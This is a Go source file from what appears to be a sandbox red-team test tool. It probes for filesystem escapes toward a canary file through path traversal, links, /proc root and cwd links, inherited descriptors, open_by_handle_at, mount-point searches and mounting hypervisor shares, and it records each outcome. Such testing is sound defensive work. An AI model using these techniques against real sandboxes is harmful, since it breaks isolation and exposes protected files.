package payload

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/brainst0rm/sandbox-redteam/internal/attack"
	"github.com/brainst0rm/sandbox-redteam/internal/wire"
)

const (
	maxPIDs   = 256
	maxMounts = 256
	maxFDs    = 256
)

// climb goes up from dir further than any tree is deep, then down to path.
func climb(dir, path string) string {
	return dir + strings.Repeat("../", 48) + strings.TrimPrefix(path, "/")
}

// detours are spellings of the canary's path that a check of the path's text
// may not see through, and links to it.
func (j job) detours() []string {
	p := j.p.Path
	out := []string{climb("", p), climb("/proc/self/cwd/", p), "/../.." + p, "//" + strings.ReplaceAll(p, "/", "/./"), "/proc/self/../.." + p}
	if j.dir == "" {
		return out
	}
	soft, hard := filepath.Join(j.dir, "soft"), filepath.Join(j.dir, "hard")
	_ = os.Remove(soft)
	_ = os.Remove(hard)
	if os.Symlink(p, soft) == nil {
		out = append(out, soft)
	}
	err := os.Link(p, hard)
	if err == nil {
		return append(out, hard)
	}
	j.record(wire.Outcome(attack.FSTraversal, "link", p, err))
	return out
}

// procRoots goes through the root and cwd links of every process in sight.
func (j job) procRoots() {
	first := map[string]bool{}
	for _, pid := range processes() {
		for _, path := range []string{"/proc/" + pid + "/root" + j.p.Path, climb("/proc/"+pid+"/cwd/", j.p.Path)} {
			f, err := os.Open(path)
			_, errno := wire.Classify(err)
			// One line per kind of failure is enough; successes are all told.
			if err != nil && first[errno] {
				continue
			}
			first[errno] = err != nil || first[errno]
			j.readFile(attack.FSProcRoot, "read", path, f, err)
		}
	}
}

func processes() []string {
	out := []string{"self"}
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		if _, err := strconv.Atoi(e.Name()); err == nil && len(out) < maxPIDs {
			out = append(out, e.Name())
		}
	}
	return out
}

// inherited climbs out of every directory that was left open for us.
func (j job) inherited() {
	tried := false
	for fd := range maxFDs {
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil || st.Mode&unix.S_IFMT != unix.S_IFDIR {
			continue
		}
		tried = true
		for _, path := range []string{strings.TrimPrefix(j.p.Path, "/"), climb("", j.p.Path)} {
			got, err := unix.Openat(fd, path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
			var f *os.File
			if err == nil {
				f = os.NewFile(uintptr(got), path)
			}
			j.readFile(attack.FSInherited, "openat", "fd "+strconv.Itoa(fd), f, err)
		}
	}
	if !tried {
		j.record(wire.Attempt{Case: attack.FSInherited, Op: "openat", Result: wire.ResultAbsent, Detail: "no directory is open"})
	}
}

func ownHandle(path string) (int32, []byte) {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, path, 0)
	if err != nil {
		return 0, nil
	}
	return h.Type(), h.Bytes()
}

// handles opens the canary by its file handle on every filesystem in reach.
func (j job) handles() {
	if len(j.p.Handle) == 0 {
		return
	}
	for _, at := range []string{"/", j.dir, "/etc/hosts", "/etc/resolv.conf", "/etc/hostname"} {
		mount, err := unix.Open(at, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err != nil {
			continue
		}
		fd, err := unix.OpenByHandleAt(mount, unix.NewFileHandle(j.p.HandleType, j.p.Handle), unix.O_RDONLY|unix.O_CLOEXEC)
		_ = unix.Close(mount)
		var f *os.File
		if err == nil {
			f = os.NewFile(uintptr(fd), "handle")
		}
		j.readFile(attack.FSHandle, "open_by_handle_at", at, f, err)
	}
}

// mounts looks for the canary below every mount point: wherever one of its
// parents was mounted, some tail of its path leads to it from there.
func (j job) mounts() []string {
	points, err := mountPoints()
	if err != nil {
		j.record(wire.Outcome(attack.FSMounts, "read", "/proc/self/mountinfo", err))
		return nil
	}
	if j.p.VM {
		shared, unmount := j.mountShares()
		defer unmount()
		points = append(points, shared...)
	}
	var found []string
	for _, point := range points {
		for tail := j.p.Path; tail != ""; tail = below(tail) {
			path := strings.TrimSuffix(point, "/") + tail
			if _, err := os.Lstat(path); err != nil && errors.Is(err, fs.ErrNotExist) {
				continue
			}
			if j.read(attack.FSMounts, path) {
				found = append(found, path)
				if j.p.VM {
					// Its mount ends with this function, so the write comes now.
					j.record(wire.Outcome(attack.FSWrite, "append", path, appendTo(path, j.p.Append)))
				}
			}
		}
	}
	if len(found) == 0 {
		j.record(wire.Attempt{Case: attack.FSMounts, Op: "lookup", Result: wire.ResultAbsent, Detail: strconv.Itoa(len(points)) + " mounts"})
	}
	return found
}

// below drops the first element of an absolute path.
func below(path string) string {
	i := strings.IndexByte(path[1:], '/')
	if i < 0 {
		return ""
	}
	return path[1+i:]
}

func mountPoints() ([]string, error) {
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		return nil, err
	}
	var out []string
	for line := range strings.Lines(string(b)) {
		f := strings.Fields(line)
		if len(f) > 4 && len(out) < maxMounts {
			out = append(out, strings.NewReplacer(`\040`, " ", `\011`, "\t", `\012`, "\n", `\134`, `\`).Replace(f[4]))
		}
	}
	return out, nil
}

// mountShares mounts the directories that the hypervisor shares with this
// guest. It is called in a VM of ours only.
func (j job) mountShares() (points []string, unmount func()) {
	unmount = func() {
		for _, p := range points {
			_ = unix.Unmount(p, unix.MNT_DETACH)
		}
	}
	for _, s := range []struct{ glob, kind, options string }{
		{"/sys/bus/virtio/drivers/9pnet_virtio/*/mount_tag", "9p", "trans=virtio,version=9p2000.L"},
		{"/sys/fs/virtiofs/*/tag", "virtiofs", ""},
	} {
		tags, err := filepath.Glob(s.glob)
		if err != nil {
			continue
		}
		for _, file := range tags {
			raw, err := os.ReadFile(file)
			tag := strings.Trim(string(raw), "\x00\n")
			if err != nil || tag == "" || j.dir == "" {
				continue
			}
			at, err := os.MkdirTemp(j.dir, "share-")
			if err == nil {
				err = unix.Mount(tag, at, s.kind, 0, s.options)
			}
			if err == nil {
				points = append(points, at)
			} else {
				j.record(wire.Outcome(attack.FSMounts, "mount", s.kind+" "+tag, err))
			}
		}
	}
	return points, unmount
}
